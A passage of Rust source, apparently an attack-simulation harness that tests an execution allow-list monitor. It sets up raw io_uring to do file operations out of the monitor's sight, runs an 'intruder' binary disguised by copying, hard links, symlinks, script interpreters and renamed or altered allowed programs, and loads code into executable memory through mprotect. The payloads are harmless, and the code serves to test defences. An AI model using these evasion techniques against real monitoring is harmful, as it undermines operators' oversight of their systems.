            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_SHARED | libc::MAP_POPULATE,
            fd,
            offset,
        )
    };
    if p == libc::MAP_FAILED {
        return Err(format!("mapping the ring: {}", io::Error::last_os_error()));
    }
    Ok(p.cast())
}

/// One ring, set up, submitting one operation at a time and waiting for its completion.
struct Ring {
    fd: i32,
    sq: *mut u8,
    cq: *mut u8,
    sqes: *mut u8,
    p: uring::Params,
}

impl Ring {
    fn new() -> Result<Self, String> {
        let mut p = uring::Params {
            sq_entries: 0,
            cq_entries: 0,
            rest: [0; 28],
        };
        // SAFETY: io_uring_setup writes the parameters it was given a pointer to.
        let fd = unsafe { libc::syscall(uring::SYS_SETUP, 4, &mut p as *mut uring::Params) };
        if fd < 0 {
            return Err(format!("io_uring_setup: {}", io::Error::last_os_error()));
        }
        let fd = fd as i32;
        let sq = map_ring(fd, p.sq(6) + p.sq_entries as usize * 4, uring::OFF_SQ_RING)?;
        let cq = map_ring(
            fd,
            p.cq(5) + p.cq_entries as usize * uring::CQE_SIZE,
            uring::OFF_CQ_RING,
        )?;
        let sqes = map_ring(fd, p.sq_entries as usize * uring::SQE_SIZE, uring::OFF_SQES)?;
        Ok(Self {
            fd,
            sq,
            cq,
            sqes,
            p,
        })
    }

    /// A ring word at `offset` (the kernel's offsets, inside the mapping it sized).
    fn load(base: *mut u8, offset: usize) -> u32 {
        // SAFETY: inside one of the ring's mappings; the kernel writes it concurrently, hence volatile.
        unsafe { base.wrapping_add(offset).cast::<u32>().read_volatile() }
    }

    fn store(base: *mut u8, offset: usize, value: u32) {
        // SAFETY: as above; this word is ours to write (the SQ tail and array, the CQ head).
        unsafe {
            base.wrapping_add(offset)
                .cast::<u32>()
                .write_volatile(value)
        }
    }

    /// Submits one SQE (`opcode`, `fd`, `addr`, `len`, the operation's flags) and returns its result.
    fn run(&self, opcode: u8, fd: i32, addr: u64, len: u32, op_flags: u32) -> Result<i32, String> {
        use std::sync::atomic::{fence, Ordering};
        let mut sqe = [0u8; uring::SQE_SIZE];
        sqe[0] = opcode;
        sqe[4..8].copy_from_slice(&fd.to_le_bytes());
        sqe[16..24].copy_from_slice(&addr.to_le_bytes());
        sqe[24..28].copy_from_slice(&len.to_le_bytes());
        sqe[28..32].copy_from_slice(&op_flags.to_le_bytes());
        sqe[32..40].copy_from_slice(&u64::from(opcode).to_le_bytes());
        let tail = Self::load(self.sq, self.p.sq(1));
        let slot = (tail & Self::load(self.sq, self.p.sq(2))) as usize;
        let at = self.sqes.wrapping_add(slot * uring::SQE_SIZE);
        // SAFETY: one SQE slot of the SQE mapping, which holds `sq_entries` of them.
        unsafe { std::ptr::copy_nonoverlapping(sqe.as_ptr(), at, sqe.len()) };
        Self::store(self.sq, self.p.sq(6) + slot * 4, slot as u32);
        fence(Ordering::Release);
        Self::store(self.sq, self.p.sq(1), tail.wrapping_add(1));
        // SAFETY: io_uring_enter on our ring, no signal mask.
        let n = unsafe {
            libc::syscall(
                uring::SYS_ENTER,
                self.fd,
                1,
                1,
                uring::ENTER_GETEVENTS,
                0usize,
                0usize,
            )
        };
        if n < 0 {
            return Err(format!("io_uring_enter: {}", io::Error::last_os_error()));
        }
        fence(Ordering::Acquire);
        let head = Self::load(self.cq, self.p.cq(0));
        if head == Self::load(self.cq, self.p.cq(1)) {
            return Err("no completion".into());
        }
        let mask = Self::load(self.cq, self.p.cq(2));
        let cqe = self.p.cq(5) + (head & mask) as usize * uring::CQE_SIZE;
        let res = Self::load(self.cq, cqe + 8) as i32;
        Self::store(self.cq, self.p.cq(0), head.wrapping_add(1));
        Ok(res)
    }
}

fn io_uring() -> Result<(), String> {
    const AT_FDCWD: i32 = -100;
    let [openat, write, close, mkdirat] = ihmi_abi::attack::LINUX_IO_URING_OPS;
    let file = b"/ihmi-uring-file\0";
    let dir = b"/ihmi-uring-dir\0";
    let text = b"written through io_uring\n";
    let ring = Ring::new()?;
    say("ihmi-attack: creating a file, writing it, closing it and making a directory through io_uring");
    let flags = (libc::O_CREAT | libc::O_WRONLY | libc::O_TRUNC) as u32;
    let fd = ring.run(openat, AT_FDCWD, file.as_ptr() as u64, 0o644, flags)?;
    if fd < 0 {
        return Err(format!("openat through io_uring: error {fd}"));
    }
    let n = ring.run(write, fd, text.as_ptr() as u64, text.len() as u32, 0)?;
    let closed = ring.run(close, fd, 0, 0, 0)?;
    let made = ring.run(mkdirat, AT_FDCWD, dir.as_ptr() as u64, 0o755, 0)?;
    let written = fs::read("/ihmi-uring-file").map_err(|e| format!("/ihmi-uring-file: {e}"))?;
    let is_dir = fs::metadata("/ihmi-uring-dir").is_ok_and(|m| m.is_dir());
    if n != text.len() as i32 || closed != 0 || made != 0 || written != text || !is_dir {
        return Err(format!(
            "the ring's operations did not all take effect (write {n}, close {closed}, mkdirat {made})"
        ));
    }
    say("ihmi-attack: the file and the directory exist; every operation took effect");
    Ok(())
}

/// Makes the files the `identity` attack runs; each is a path of `LINUX_IDENTITY_RUNS`.
fn identity_files() -> io::Result<()> {
    use std::os::unix::fs::{symlink, PermissionsExt};
    let exe = |path: &str, bytes: &[u8]| -> io::Result<()> {
        fs::write(path, bytes)?;
        fs::set_permissions(path, fs::Permissions::from_mode(0o755))
    };
    let workload = fs::read("/bin/ihmi-workload")?;
    fs::copy("/bin/ihmi-intruder", "/tmp/ihmi-workload")?;
    fs::hard_link("/bin/ihmi-intruder", "/tmp/busybox")?;
    symlink("/bin/ihmi-intruder", "/tmp/ihmi-bench")?;
    exe("/tmp/ihmi-poweroff", b"#!/bin/ihmi-intruder\n")?;
    exe("/tmp/ihmi-attack", &[workload.as_slice(), b"\0"].concat())?;
    exe("/tmp/renamed", &workload)?;
    exe("/tmp/script", b"#!/bin/sh\nexit 0\n")
}

/// Runs `path`: `Ok(true)` if it ran and exited 0, `Ok(false)` if the kernel refused the execve
/// with EPERM (the monitor's refusal), an error otherwise.
fn run_program(path: &str) -> Result<bool, String> {
    match std::process::Command::new(path).status() {
        Ok(s) if s.success() => Ok(true),
        Ok(s) => Err(format!("{path} ran and failed ({s})")),
        Err(e) if e.raw_os_error() == Some(libc::EPERM) => Ok(false),
        Err(e) => Err(format!("{path}: {e}")),
    }
}

fn identity() -> Result<(), String> {
    use ihmi_abi::attack::{
        LINUX_IDENTITY_LOADER_REPORT, LINUX_IDENTITY_RUNS, LINUX_IDENTITY_TIMING_REPORT,
    };
    identity_files().map_err(|e| format!("making the disguises: {e}"))?;
    say("ihmi-attack: running the intruder as itself, copied, hard-linked, symbolic-linked and as a script's interpreter, and allowed programs changed and renamed");
    let mut ticks = Vec::new();
    let mut wrong = Vec::new();
    for (i, &(path, allowed)) in LINUX_IDENTITY_RUNS.iter().enumerate() {
        if i == LINUX_IDENTITY_RUNS.len() - 1 {
            // The renamed copy has run (and been hashed): change it through the kernel.
            OpenOptions::new()
                .append(true)
                .open(path)
                .and_then(|mut f| io::Write::write_all(&mut f, b"\0"))
                .map_err(|e| format!("changing {path}: {e}"))?;
        }
        // SAFETY: RDTSC reads the time stamp counter; nothing else.
        let start = unsafe { core::arch::x86_64::_rdtsc() };
        let ran = run_program(path)?;
        // SAFETY: as above.
        let end = unsafe { core::arch::x86_64::_rdtsc() };
        if path == "/tmp/renamed" && ran {
            ticks.push(end.wrapping_sub(start));
        }
        let what = if ran { "ran" } else { "was refused" };
        say(&format!("ihmi-attack: {path} {what}"));
        if ran != allowed {
            wrong.push(path);
        }
    }
    if let [first, cached] = ticks[..] {
        say(&format!(
            "{LINUX_IDENTITY_TIMING_REPORT}first={first} cached={cached}"
        ));
    }
    let loaded = load_code()?;
    say(&format!("{LINUX_IDENTITY_LOADER_REPORT}{loaded}"));
    if !wrong.is_empty() {
        return Err(format!("the allow-list judged these wrongly: {wrong:?}"));
    }
    Ok(())
}

/// A loader inside an allowed program: code copied into anonymous memory, made executable with
/// mprotect, and called. Returns what it returned.
fn load_code() -> Result<u64, String> {
    let loaded = ihmi_abi::attack::LINUX_IDENTITY_LOADED as u32;
    // mov eax, imm32; ret
    let mut code = vec![0xb8];
    code.extend_from_slice(&loaded.to_le_bytes());
    code.push(0xc3);
    // SAFETY: a fresh private anonymous mapping; no existing memory is affected.
    let page = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            PAGE as usize,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
            -1,
            0,
        )
    };
    if page == libc::MAP_FAILED {
        return Err(format!("mmap: {}", io::Error::last_os_error()));
    }
    // SAFETY: the page is ours, writable, and longer than the code.
    unsafe { std::ptr::copy_nonoverlapping(code.as_ptr(), page.cast::<u8>(), code.len()) };
    // SAFETY: changes the protection of our own page only.
    if unsafe { libc::mprotect(page, PAGE as usize, libc::PROT_READ | libc::PROT_EXEC) } != 0 {
        return Err(format!("mprotect: {}", io::Error::last_os_error()));
    }
    // SAFETY: the page holds a complete function of the C ABI that takes nothing and returns EAX.
    let f: extern "C" fn() -> u32 = unsafe { std::mem::transmute(page) };
    Ok(u64::from(f()))
}
